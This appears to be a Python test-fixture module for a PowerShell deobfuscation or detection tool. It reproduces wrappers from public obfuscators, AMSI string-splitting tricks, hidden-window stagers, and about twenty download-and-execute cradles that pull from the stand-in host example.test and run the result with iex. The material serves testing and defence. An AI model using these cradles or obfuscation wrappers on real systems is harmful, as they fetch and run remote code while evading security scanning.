"""Forms as public obfuscators put them together, and forms of which the decoding depends on something unknown."""

# ruff: noqa: E501  (a form a line)
from collections.abc import Callable

from form_text import (
    FROM64,
    UTF8,
    Forms,
    b64,
    codes,
    dq,
    gz,
    hexed,
    masked,
    pieces,
    q,
    quoted,
    secure,
    stepped,
    xored,
)

PLAIN_TEXTS = ("Get-Date | Out-Null",)  # that stand in a form beside the payload
KEY, IV = bytes(range(60, 92)), bytes(range(16))
UNGZIP = (
    "New-Object IO.StreamReader((New-Object IO.Compression.GzipStream((New-Object IO.MemoryStream(,{})),"
    "[IO.Compression.CompressionMode]::Decompress)))"
)


def _words(text: str) -> list[str]:
    """Return the words with the blanks behind them."""
    return [word + " " for word in text.split(" ")[:-1]] + [text.split(" ")[-1]]


def _chopped(p: str) -> str:
    names = [f"${chr(97 + n % 26)}{'kvq'[n % 3] * (2 + n // 26)}" for n in range(len(_words(p)))]
    lines = [f"# {hexed(word)[::-1]}\n{name}={q(word)}" for name, word in zip(names, _words(p), strict=True)]
    return "\n\n".join(lines) + "\n#\niex (" + " + ".join(names) + ")"


def _reversed64(p: str) -> str:
    return (
        f"$code = {q(b64(p, 'utf-8')[::-1])} ;\n$data = $code.ToCharArray() ; [array]::Reverse($data) ; "
        f"-join $data 2>&1> $null ;\n$text = [System.Text.Encoding]::UTF8.GetString([System.Convert]::"
        '"FromBase64String"("$data")) ;\n$run = "In"+"vok"+"e-E"+"xpre"+"ssion" ; '
        "Set-Alias -Name run -Value $run -Force ; run $text ;"
    )


def _encrypted(p: str, layers: int = 1) -> str:
    for layer in range(layers):
        data = IV + masked(gz(p), KEY[layer:] + KEY[:layer], IV)
        p = (
            f"$dd=[System.Convert]::FromBase64String({q(b64(data))})\n"
            f"$kk=[System.Convert]::FromBase64String('{b64(KEY[layer:] + KEY[:layer])}')\n"
            '$aa=New-Object "System.Security.Cryptography.AesManaged"\n'
            "$aa.Mode=[System.Security.Cryptography.CipherMode]::CBC\n"
            "$aa.Padding=[System.Security.Cryptography.PaddingMode]::PKCS7\n$aa.BlockSize=128\n$aa.KeySize=256\n"
            "$aa.Key=$kk\n$aa.IV=$dd[0..15]\n$pp=$aa.CreateDecryptor().TransformFinalBlock($dd,16,$dd.Length-16)\n"
            "$aa.Dispose()\n$mm=New-Object System.IO.MemoryStream(,$pp)\n$oo=New-Object System.IO.MemoryStream\n"
            "$zz=New-Object System.IO.Compression.GzipStream $mm,([IO.Compression.CompressionMode]::Decompress)\n"
            "$zz.CopyTo($oo)\n$zz.Close()\n$mm.Close()\n[byte[]]$bb=$oo.ToArray()\n"
            "$ss=[System.Text.Encoding]::UTF8.GetString($bb)\niex($ss)"
        )
    return p


TOOLS: Forms = {
    "Chimera, words in variables": _chopped,
    "Chimera, back-ticks and comments": lambda p: (
        "# " + hexed(p)[:20] + "\n" + "".join(f"$v{n}={q(x)} # {n}\n\n" for n, x in enumerate(pieces(p, 5)))
        + 'I`N`V`OKE-`EXPRESSION "$v0$v1$v2$v3$v4"'
    ),
    "Chimera, ${}": lambda p: (
        "".join(f"$z{n}={q(x)}; " for n, x in enumerate(pieces(p, 4)))
        + "Invoke-Expression \"${z0}${z1}${z2}${z3}\""
    ),
    "Invoke-Stealth, reversed Base64": _reversed64,
    "Invoke-Stealth, two tools": lambda p: _reversed64(_chopped(p)),
    "xencrypt": _encrypted,
    "xencrypt, three layers": lambda p: _encrypted(p, 3),
    "PyFuscation": lambda p: (
        "function SwiftOtter {\n    param(\n        [string]$MellowFinch,\n        [string]$BraveHeron\n    )\n"
        "    $QuietLynx = $MellowFinch + $BraveHeron\n    Invoke-Expression $QuietLynx\n}\n"
        f"SwiftOtter -BraveHeron {q(p[9:])} -MellowFinch {q(p[:9])}"
    ),
    "ISESteroids, names": lambda p: (
        f"function ___/\\__/==\\__{{param(${{_/=\\/\\_/}})iex ${{_/=\\/\\_/}}}}\n${{/=\\_/=}}={q(p)}\n"
        "___/\\__/==\\__ ${/=\\_/=}"
    ),
    "ISESteroids, strings": lambda p: (
        "iex $([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('"
        + "'))+[Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('".join(map(b64, pieces(p, 3)))
        + "')))"
    ),
    "psobf 1": lambda p: f"$t = $({'+'.join(q(c) for c in p)})\nInvoke-Expression $t",
    "psobf 2": lambda p: f"$d = [System.Convert]::FromBase64String('{b64(p, 'utf-8')}')\n$t = [System.Text.Encoding]::UTF8.GetString($d)\nInvoke-Expression $t",
    "psobf 3": lambda p: f"$e=[System.Text.Encoding]::UTF8; Invoke-Expression ($e.GetString([System.Convert]::FromBase64String('{b64(p, 'utf-8')}')))",
    "psobf 4": lambda p: (
        f"$c='{b64(gz(p))}'\n$b=[System.Convert]::FromBase64String($c)\n$m=New-Object IO.MemoryStream(, $b)\n"
        "$s=New-Object IO.Compression.GZipStream($m, [IO.Compression.CompressionMode]::Decompress)\n"
        "$r=New-Object IO.StreamReader($s)\n$t=$r.ReadToEnd()\nInvoke-Expression $t"
    ),
    "psobf 5": lambda p: (
        "$f = @(\n" + ",\n".join(f"    {q(x)}" for x in pieces(p, 7)) + "\n)\n$t = $f -join ''\nInvoke-Expression $t"
    ),
    "Chameleon, sums of characters": lambda p: (
        'iex "' + "".join(f"$([char]({ord(c) - 7 - n % 5}+{7 + n % 5}))" for n, c in enumerate(p)) + '"'
    ),
    "Chameleon, mixed numbers": lambda p: (
        "iex ($(" + "+".join(
            (f"[char](0x{ord(c):x})", f"[char]({ord(c)})", f"[char]({ord(c)}*{n + 2}/{n + 2})", q(c))[n % 4]
            for n, c in enumerate(p)
        ) + "))"
    ),
    "Chameleon, Base64 in a block": lambda p: (
        f"$vQ='{b64(p)}';$zK={{param($w)[Text.Encoding]::Unicode.GetString([Convert]::FromBase64String($w))}};"
        "iex (&$zK $vQ)"
    ),
    "Out-EncodedAsciiCommand": lambda p: (
        f"powershell -NoProfile -NonInteractive \"iex(('{codes(p, separator='_')}'.Split('_')|%{{[char][int]$_}})-join'')\""
    ),
    "Out-EncodedBXORCommand": lambda p: (
        f"powershell -nop -noni -w 1 \"&('iex')(-join({codes(p, key=77)}|%{{[char]($_ -bxor 77)}}))\""
    ),
    "Out-EncodedHexCommand": lambda p: (
        f"powershell -nop \"(-Join('{codes(p, '{:x}', '%')}'.Split('%')|%{{[char]([Convert]::ToInt16($_,16))}}))|iex\""
    ),
    "Out-CompressedCommand": lambda p: (
        "powershell -nop -c \"iex((" + UNGZIP.format(f"[Convert]::FromBase64String('{b64(gz(p))}')")
        + ").ReadToEnd())\""
    ),
    "stager of a framework": lambda p: (
        "$s=New-Object IO.MemoryStream(,[Convert]::FromBase64String(\"" + b64(gz(p)) + "\"));IEX (New-Object "
        "IO.StreamReader(New-Object IO.Compression.GzipStream($s,[IO.Compression.CompressionMode]::Decompress)))"
        ".ReadToEnd();"
    ),
    "stager in a stager": lambda p: (
        "if([IntPtr]::Size -eq 4){$b='powershell.exe'}else{$b=$env:windir+'\\syswow64\\WindowsPowerShell\\v1.0\\powershell.exe'};"
        "$s=New-Object System.Diagnostics.ProcessStartInfo;$s.FileName=$b;$s.Arguments='-nop -w hidden -c &([scriptblock]::create(("
        + UNGZIP.format(f"[System.Convert]::FromBase64String(''{b64(gz(p))}'')")
        + ").ReadToEnd()))';$s.UseShellExecute=$false;$p=[System.Diagnostics.Process]::Start($s);"
    ),
    "loader of shell code": lambda p: (
        f"[Byte[]]$v=[Convert]::FromBase64String('{b64(xored(p, bytes([35])))}')\nfor($x=0;$x -lt $v.Count;$x++)"
        "{$v[$x]=$v[$x] -bxor 35}\n$t=[Text.Encoding]::UTF8.GetString($v)\nIEX $t"
    ),
    "loader of every fifth": lambda p: (
        "Function Onlook([String]$Gneiss){$Dimly=$Gneiss.Length-1;$Step=5;For($Fen=4;$Fen -lt $Dimly;$Fen+=$Step)"
        "{$Lark+=$Gneiss.Substring($Fen,1)}$Lark;}\n"
        f"$Heath=Onlook {q(stepped('iex') + 'zz')};\n.($Heath) (Onlook {q(stepped(p) + 'zz')});"
    ),
    "AMSI, words split": lambda p: "&('i'+'E'+'x') (" + "+".join(f"\"{dq(x)[1:-1]}\"" for x in pieces(p, 8)) + ")",
    "AMSI, words by [char]": lambda p: (
        "iex (" + "+".join(
            q(x[:-1]) + f"+[char]{ord(x[-1])}" if len(x) > 1 else f"''+[char]{ord(x)}" for x in pieces(p, 6)
        ) + ")"
    ),
    "AMSI, words by -f and replace": lambda p: f"iex (('{{0}}~{{1}}' -f {q(p[:8])},{q(p[8:])}).Replace('~',''))",
    "AMSI, words by $null": lambda p: f"iex ({quoted(p, 6, '+$null+')})",
}  # fmt: skip


def _always(text: str) -> Callable[[str], str]:
    return lambda _: text


CRADLES = {  # what a cradle fetches is not known; of a name that is put together, the plain text
    "WebClient": "iex (New-Object Net.WebClient).DownloadString('http://example.test/a')",
    "WebClient, variable": "$w=New-Object Net.WebClient;$t=$w.DownloadString('http://example.test/a');iex $t",
    "WebClient, ::new": "iex ([Net.WebClient]::new().DownloadString('http://example.test/a'))",
    "WebClient, member by name": "$m='DownloadString';iex (New-Object Net.WebClient).$m('http://example.test/a')",
    "DownloadData": "iex ([Text.Encoding]::UTF8.GetString((New-Object Net.WebClient).DownloadData('http://example.test/a')))",
    "OpenRead": "iex (New-Object IO.StreamReader((New-Object Net.WebClient).OpenRead('http://example.test/a'))).ReadToEnd()",
    "DownloadFile": "(New-Object Net.WebClient).DownloadFile('http://example.test/a',\"$env:TEMP\\a.ps1\");. $env:TEMP\\a.ps1",
    "Invoke-WebRequest": "iex (iwr http://example.test/a -UseBasicParsing).Content",
    "Invoke-RestMethod": "irm http://example.test/a | iex",
    "curl": "iex (curl http://example.test/a).Content",
    "WebRequest": "iex (New-Object IO.StreamReader([Net.WebRequest]::Create('http://example.test/a').GetResponse().GetResponseStream())).ReadToEnd()",
    "HttpClient": "iex ([Net.Http.HttpClient]::new().GetStringAsync('http://example.test/a').Result)",
    "XMLHTTP": "$h=New-Object -ComObject MSXML2.XMLHTTP;$h.open('GET','http://example.test/a',$false);$h.send();iex $h.responseText",
    "certutil": "certutil -urlcache -f http://example.test/a a.ps1;iex (gc a.ps1 -raw)",
    "bits": "Start-BitsTransfer http://example.test/a a.ps1;iex (Get-Content a.ps1 | Out-String)",
    "DNS": "iex (-join (Resolve-DnsName -Type TXT example.test|%{$_.Strings}))",
    "DNS, Base64": "iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String((Resolve-DnsName example.test -Type TXT).Strings)))",
    "COM": "$w=New-Object -ComObject Word.Application;$d=$w.Documents.Open('http://example.test/a');iex $d.Content.Text",
    "gzip from the network": "iex (" + UNGZIP.format("(New-Object Net.WebClient).DownloadData('http://example.test/a')") + ").ReadToEnd()",
    "XOR from the network": "$b=(New-Object Net.WebClient).DownloadData('http://example.test/a');for($i=0;$i -lt $b.Length;$i++){$b[$i]=$b[$i] -bxor 35};iex ([Text.Encoding]::UTF8.GetString($b))",
}  # fmt: skip
UNKNOWN: Forms = {name: _always(text) for name, text in CRADLES.items()} | {
    "XOR, key read": lambda p: f"$k=Read-Host;iex (-join ({codes(p, key=35)}|%{{[char]($_ -bxor $k)}}))",
    "XOR, key a parameter": lambda p: f"param($k)iex (-join ({codes(p, key=35)}|%{{[char]($_ -bxor $k)}}))",
    "XOR, key of the environment": lambda p: f"$k=[int]$env:KEY;$o='';foreach($c in {codes(p, key=35)}){{$o+=[char]($c -bxor $k)}};iex $o",
    "XOR, key of the machine": lambda p: f"$k=$env:COMPUTERNAME;$d={codes(p, key=b'host')};$o='';for($i=0;$i -lt $d.Count;$i++){{$o+=[char]($d[$i] -bxor [int]$k[$i%$k.Length])}};iex $o",
    "XOR, key of the day": lambda p: f"$k=(Get-Date).Day;iex (-join ({codes(p, key=35)}|%{{[char]($_ -bxor $k)}}))",
    "XOR, random key": lambda p: f"$k=Get-Random -Maximum 256;iex (-join ({codes(p, key=35)}|%{{[char]($_ -bxor $k)}}))",
    "XOR, key of an argument": lambda p: f"iex (-join ({codes(p, key=35)}|%{{[char]($_ -bxor $args[0])}}))",
    "XOR, key tried": lambda p: f"foreach($k in 0..255){{$t=-join({codes(p, key=35)}|%{{[char]($_ -bxor $k)}});if((Get-Hash $t) -eq 'a1'){{iex $t}}}}",
    "XOR, function that is not called": lambda p: f"function D($k){{iex (-join ({codes(p, key=35)}|%{{[char]($_ -bxor $k)}}))}}",
    "XOR, function called with it": lambda p: f"function D($k){{-join ({codes(p, key=35)}|%{{[char]($_ -bxor $k)}})}};iex (D (Read-Host))",
    "XOR, bytes in place": lambda p: f"$k=Get-Content key.txt;$b={FROM64}('{b64(xored(p, b'key'))}');for($i=0;$i -lt $b.Length;$i++){{$b[$i]=$b[$i] -bxor $k[$i%3]}};iex ({UTF8}($b))",
    "step read": lambda p: f"$n=[int](Read-Host);$s={q(stepped(p))};$o='';for($i=$n-1;$i -lt $s.Length;$i+=$n){{$o+=$s[$i]}};iex $o",
    "step a parameter": lambda p: f"function T($n){{$s={q(stepped(p))};$o='';for($i=4;$i -lt $s.Length;$i+=$n){{$o+=$s[$i]}};iex $o}}",
    "step, start unknown": lambda p: f"$s={q(stepped(p))};$o='';for($i=$first;$i -lt $s.Length;$i+=5){{$o+=$s[$i]}};iex $o",
    "step, start of a command": lambda p: f"$s={q(stepped(p))};$i=Get-Start;while($i -lt $s.Length){{$o+=$s[$i];$i+=5}};iex $o",
    "step, left at an unknown place": lambda p: f"$s={q(stepped(p))};$o='';for($i=4;$i -lt $s.Length;$i+=5){{if(Test-Path $i){{break}};$o+=$s[$i]}};iex $o",
    "step, some passed over": lambda p: f"$s={q(stepped(p))};$o='';for($i=4;$i -lt $s.Length;$i+=5){{if($env:X -eq $i){{continue}};$o+=$s[$i]}};iex $o",
    "step by a random number": lambda p: f"$s={q(stepped(p))};$o='';for($i=4;$i -lt $s.Length;$i+=(Get-Random 9)){{$o+=$s[$i]}};iex $o",
    "shifted by an unknown number": lambda p: "iex (-join (" + q("".join(chr(ord(c) + 3) for c in p)) + ".ToCharArray()|%{[char]([int]$_-$n)}))",
    "AES, key read": lambda p: f"$t=[Security.Cryptography.Aes]::Create();$t.Key=[Text.Encoding]::UTF8.GetBytes((Read-Host));$t.IV=[byte[]](0..15);$d={FROM64}('{b64(masked(p, KEY, IV))}');iex ({UTF8}($t.CreateDecryptor().TransformFinalBlock($d,0,$d.Length)))",
    "AES, key fetched": lambda p: f"$t=New-Object Security.Cryptography.AesManaged;$t.Key=(iwr http://example.test/k).Content;$d={FROM64}('{b64(IV + masked(p, KEY, IV))}');$t.IV=$d[0..15];iex ({UTF8}($t.CreateDecryptor().TransformFinalBlock($d,16,$d.Length-16)))",
    "AES, key of the user": lambda p: f"$h=[Security.Cryptography.SHA256]::Create().ComputeHash([Text.Encoding]::UTF8.GetBytes($env:USERNAME));$t=[Security.Cryptography.Aes]::Create();$d={FROM64}('{b64(masked(p, KEY, IV))}');iex ({UTF8}($t.CreateDecryptor($h,[byte[]](0..15)).TransformFinalBlock($d,0,$d.Length)))",
    "SecureString without a key": lambda p: f"$s=ConvertTo-SecureString '01000000d08c9ddf0115d1118c7a00c04fc297eb{hexed(masked(p, KEY, IV))}';iex ([Net.NetworkCredential]::new('',$s)).Password",
    "SecureString, key in a file": lambda p: f"$s='{secure(p, KEY, IV)}'|ConvertTo-SecureString -Key (Get-Content k.txt);iex ([Net.NetworkCredential]::new('',$s)).Password",
    "file": lambda _: "iex (Get-Content a.txt -Raw)",
    "file, ReadAllText": lambda _: "iex ([IO.File]::ReadAllText('C:\\Temp\\a.txt'))",
    "file, reversed": lambda _: "$t=Get-Content a.txt -Raw;iex ($t[-1..-($t.Length)] -join '')",
    "registry": lambda _: "iex (Get-ItemProperty HKCU:\\Software\\Example).Data",
    "registry, Base64": lambda _: f"iex ({UTF8}({FROM64}((gp HKCU:\\Software\\Example).Data)))",
    "clipboard": lambda _: "iex (Get-Clipboard)",
    "environment": lambda _: "iex $env:DATA",
    "environment, Base64": lambda _: f"iex ({UTF8}({FROM64}($env:DATA)))",
    "argument": lambda _: "iex $args[0]",
    "argument, Base64": lambda _: f"param([string]$d)iex ({UTF8}({FROM64}($d)))",
    "standard input": lambda _: "$input|iex",
    "WMI": lambda _: "iex (([wmiclass]'root\\cimv2:Win32_Example').Properties['Data'].Value)",
    "pixels": lambda _: "$g=[Drawing.Bitmap]::FromFile('a.png');$o='';foreach($x in 0..99){$o+=[char]$g.GetPixel($x,0).R};iex $o",
    "event log": lambda _: "iex (Get-EventLog Application -Newest 1).Message",
    "variable that is not set": lambda _: "iex $nothing",
    "two ways": lambda p: f"if($env:X){{$s={q(p)}}}else{{$s='Get-Date | Out-Null'}};iex $s",
    "two ways, before": lambda p: f"$s={q(p)};if(Test-Path a){{$s='Get-Date | Out-Null'}};iex $s",
    "two ways, switch": lambda p: f"switch($env:X){{'a'{{$s={q(p)}}}default{{$s='Get-Date | Out-Null'}}}};iex $s",
    "two ways, try": lambda p: f"try{{Get-Item a -ErrorAction Stop;$s={q(p)}}}catch{{$s='Get-Date | Out-Null'}};iex $s",
    "two ways, loop": lambda p: f"$s={q(p)};foreach($f in Get-ChildItem){{$s='Get-Date | Out-Null'}};iex $s",
    "two ways, while": lambda p: f"$s={q(p)};while(Test-Path b){{$s='Get-Date | Out-Null'}};iex $s",
    "two ways, pipeline": lambda p: f"$s={q(p)};Get-ChildItem|%{{$s='Get-Date | Out-Null'}};iex $s",
    "two ways, function": lambda p: f"$s={q(p)};function f{{$script:s='Get-Date | Out-Null'}};if(Test-Path a){{f}};iex $s",
    "appended so often": lambda p: f"$s={q(p)};Get-ChildItem|%{{$s+=' '+'| Out-Null'}};iex $s",
    "appended, unknown": lambda p: f"$s={q(p + ';')}+$u;iex $s",
    "expanded, unknown": lambda p: f"iex \"$u{dq(p)[1:-1]}$v\"" if "$" in p else f'iex "$u;{dq(p)[1:-1]};$v"',
    "repeated so often": lambda p: f"iex ({q(p + ';')}*$n)",
    "replaced by unknown": lambda p: f"iex {q(p.replace('t', '~'))}.Replace('~',$c)",
    "replaced, unknown mark": lambda p: f"iex ({q('~'.join(p))} -replace $m,'')",
    "split at unknown": lambda p: f"iex (-join ('{codes(p, separator='!')}'.Split($m)|%{{[char][int]$_}}))",
    "joined with unknown": lambda p: f"iex (({quoted(p, 4)}) -join $j)",
    "format, unknown": lambda p: f"iex ('{{0}}{{1}}{{2}}' -f {q(p[:6])},$u,{q(p[6:])})",
    "places unknown": lambda p: f"iex (-join {q(p[::-1])}[$a..$b])",
    "shuffled": lambda p: f"iex (-join ({quoted(p, 5)}|Sort-Object {{Get-Random}}))",
    "part unknown": lambda p: f"iex {q(p + p)}.Substring($n)",
    "hashtable, unknown key": lambda p: f"$h=@{{a={q(p)};b='Get-Date | Out-Null'}};iex $h[$env:X]",
    "list, unknown place": lambda p: f"$l={q(p)},'Get-Date | Out-Null';iex $l[(Get-Random 2)]",
    "characters with one unknown": lambda p: f"iex (-join [char[]]({codes(p[:9])},$u,{codes(p[9:])}))",
    "Base64 with an unknown part": lambda p: f"iex ({UTF8}({FROM64}('{b64(p, 'utf-8')[:20]}'+$u+'{b64(p, 'utf-8')[20:]}')))",
    "alphabet unknown": lambda p: f"$t=Get-Content t.txt -Raw;iex (-join ({codes(p, key=9)}|%{{$t[$_]}}))",
    "command unknown": lambda p: f"$c=Get-Verb|select -First 1;&$c ({quoted(p[::-1], 3, '+')})",
}  # fmt: skip
